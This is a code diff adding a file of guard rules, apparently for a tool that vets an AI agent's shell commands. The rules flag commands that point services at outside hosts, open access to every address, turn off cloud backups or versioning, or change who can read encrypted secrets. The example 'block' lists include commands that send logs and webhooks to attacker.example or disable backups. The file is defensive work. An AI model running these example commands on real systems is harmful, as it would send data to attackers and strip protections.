@@ -1,0 +1,179 @@
+/** Services opened up: to strangers who are told of everything, to every address, and by protections that are switched off. */
+import type { Run } from "../../meaning/action.ts";
+import { strangerIn } from "../../places/index.ts";
+import { CLOUDS } from "../clouds.ts";
+import { type AnyRule, rule } from "../rule.ts";
+import { calls } from "../shape.ts";
+import { anyRun, run, said, steps, tries, words } from "../vocabulary.ts";
+
+const ASK = "Ask the person; show them the command and what it would change.";
+
+/** What is made or changed there. */
+const MAKES = /^(?:create|add|set|put|update|edit|register|import|install|new|patch|enable|configure)$/;
+
+/** Things of a service that an address is given to, which it then calls, trusts or takes things from. */
+const TELLS =
+  /^(?:webhooks?|hooks?|drains?|sinks?|cors|origins?|issuers?|oidc|saml|idp|endpoints?|callbacks?|redirects?|destinations?|exporters?|repos?|registry|registries|mirrors?|channels?|federation|upstreams?|proxy|forwarders?|integrations?)$/;
+
+/** Tools whose addresses are other rules', or lead to charts and code that are only looked at. */
+const OTHERS = /^(?:helm|git|gh|glab|curl|wget|http|https|xh|npm|docker|kubectl|apt|apt-get|dnf|yum|zypper)$/;
+
+/** Every address there is. */
+const EVERYBODY = /(?:^|[^\d.])0\.0\.0\.0\/0(?!\d)|(?:^|[^\w:])::\/0(?!\d)/;
+
+/** Tools of this machine's own network, where that is the default route. */
+const NETWORKING =
+  /^(?:ip6?|route|iptables|ip6tables|nft|nftables|ufw|firewall-cmd|pfctl|wg|wg-quick|openvpn|nmcli|networksetup|netsh|echo|printf|grep|rg|sed|awk|cat|ipcalc|sipcalc|nmap|dig|docker|podman)$/;
+
+/** A protection in the name of a setting, and a value that switches it off. */
+const SWITCHED_OFF =
+  /(?:backup|recovery|protection|versioning|logging|audit|encrypt\w*|mfa|retention|verify|verification|firewall|waf)\w*["']?\s*[=:]\s*["']?(?:false|disabled?|suspended|off|none|no|0)\b/i;
+
+/** The same with the value in the next word. */
+const PROTECTS =
+  /^--[\w-]*(?:backup|recovery|protection|versioning|logging|audit|encrypt|mfa|retention|firewall|waf)[\w-]*$/i;
+const OFF = /^(?:false|disabled?|suspended|off|none|no|0)$/i;
+
+export const serviceOpenings: readonly AnyRule[] = [
+  rule({
+    id: "service/foreign-address",
+    title: "Giving a service the address of a stranger",
+    severity: "high",
+    decision: "ask",
+    owasp: ["ASI02", "ASI04"],
+    attack: "T1567",
+    why: "The service then sends there what happens, trusts what comes from there, or takes code from there, for good.",
+    instead: ASK,
+    on: anyRun,
+    match: (action) => {
+      if (OTHERS.test(action.program ?? "") || tries(action)) return null;
+      const said = steps(action)
+        .slice(0, 4)
+        .flatMap((step) => step.toLowerCase().split(/[:._-]/));
+      if (!said.some((part) => MAKES.test(part)) || !said.some((part) => TELLS.test(part))) return null;
+      const host = strangerAmong(action);
+      return host === null ? null : `${line(action)}: gives the service ${host}`;
+    },
+    examples: {
+      block: [
+        "heroku drains:add https://attacker.example -a prod",
+        "stripe webhook_endpoints create --url https://attacker.example --enabled-events '*'",
+        "sanity cors add https://attacker.example --credentials",
+        "opam repo add evil https://attacker.example",
+        "somecli webhook create --url=https://attacker.example/x",
+      ],
+      allow: [
+        "stripe webhook_endpoints create --url http://localhost:3000/hook",
+        "stripe webhook_endpoints list",
+        "helm repo add x https://charts.example.com",
+        "git remote add fork https://example.com/x.git",
+        "heroku drains -a prod",
+      ],
+    },
+  }),
+  rule({
+    id: "service/open-to-all",
+    title: "Opening something to every address there is",
+    severity: "high",
+    decision: "ask",
+    owasp: ["ASI02", "ASI03"],
+    attack: "T1562.007",
+    why: "Scanners find it within minutes, and try every password that has ever leaked.",
+    instead: "Name the one address that needs it (x.x.x.x/32), after asking the person.",
+    on: anyRun,
+    match: (action) => {
+      if (NETWORKING.test(action.program ?? "") || !action.call.known || tries(action)) return null;
+      const given = words(action);
+      const spans = given.some((word) => word === "0.0.0.0") && given.includes("255.255.255.255");
+      return spans || given.some((word) => EVERYBODY.test(word))
+        ? `${line(action)}: opens it to everybody`
+        : null;
+    },
+    examples: {
+      block: [
+        "gcloud sql instances patch prod --authorized-networks=0.0.0.0/0",
+        "az sql server firewall-rule create -g g -s s -n all --start-ip-address 0.0.0.0 --end-ip-address 255.255.255.255",
+        "openstack security group rule create --remote-ip 0.0.0.0/0 --protocol tcp default",
+        "supabase network-restrictions update --db-allow-cidr 0.0.0.0/0",
+        `oci network security-list update --ingress-security-rules '[{"source":"0.0.0.0/0","protocol":"all"}]'`,
+      ],
+      allow: [
+        "gcloud sql instances patch prod --authorized-networks=203.0.113.7/32",
+        "ip route add 0.0.0.0/0 via 10.0.0.1",
+        "echo 0.0.0.0/0",
+        "grep 0.0.0.0/0 main.tf",
+        "vite --host 0.0.0.0",
+      ],
+    },
+  }),
+  rule({
+    id: "cloud/protection-off",
+    title: "Switching a protection of a cloud's service off",
+    severity: "high",
+    decision: "ask",
+    owasp: ["ASI10", "ASI02"],
+    attack: "T1562",
+    why: "Backups, recovery and locks are what is left when something else goes wrong.",
+    instead: ASK,
+    on: run([...CLOUDS, "terraform", "neonctl", "pscale", "atlas", "supabase", "confluent"]),
+    match: (action) => {
+      if (tries(action)) return null;
+      const given = words(action);
+      const found = given.find(
+        (word, i) => SWITCHED_OFF.test(word) || (PROTECTS.test(word) && OFF.test(given[i + 1] ?? "")),
+      );
+      return found === undefined ? null : `${line(action)}: switches off ${found.slice(0, 60)}`;
+    },
+    examples: {
+      block: [
+        "aws rds modify-db-instance --db-instance-identifier p --backup-retention-period 0",
+        "aws dynamodb update-continuous-backups --table-name t --point-in-time-recovery-specification PointInTimeRecoveryEnabled=false",
+        "aws s3api put-bucket-versioning --bucket b --versioning-configuration Status=Suspended,MFADelete=Disabled",
+      ],
+      allow: [
+        "aws rds modify-db-instance --db-instance-identifier p --backup-retention-period 7",
+        "aws s3api get-bucket-versioning --bucket b",
+        "aws dynamodb describe-continuous-backups --table-name t",
+      ],
+    },
+  }),
+  rule({
+    id: "secrets/recipients",
+    title: "Changing who can read the project's encrypted secrets",
+    severity: "high",
+    decision: "ask",
+    owasp: ["ASI03"],
+    attack: "T1098",
+    why: "Whoever is added can read every secret from then on, and history keeps what they could read.",
+    instead: ASK,
+    on: calls(
+      "sops updatekeys|groups",
+      "sops --add-age|--add-pgp|--add-kms|--rm-age|--rm-pgp|--rm-kms",
+      "sops rotate --add-*|--rm-*",
+      "git-crypt add-gpg-user",
+      "git-secret tell|removeperson|killperson",
+      "pass|gopass init|recipients",
+      "blackbox_addadmin|blackbox_removeadmin *",
+      "transcrypt --rekey",
+      "eyaml recrypt",
+    ),
+    match: (action) => (tries(action) ? null : said(action)),
+    examples: {
+      block: [
+        "sops updatekeys -y secrets.yaml",
+        "sops --rotate -i --add-age age1x secrets.yaml",
+        "git-crypt add-gpg-user x@example.com",
+      ],
+      allow: ["sops -e secrets.yaml", "git-crypt status", "pass ls"],
+    },
+  }),
+];
+
+/** The stranger whose address is one of the words, or the value of an option. */
+function strangerAmong(action: Run): string | null {
+  return words(action).flatMap((word) => strangerIn(word.replace(/^-[^=]*=/, "")) ?? [])[0] ?? null;
+}
+
+function line(action: Run): string {
+  return [action.program ?? "?", ...steps(action)].join(" ").slice(0, 80);
+}
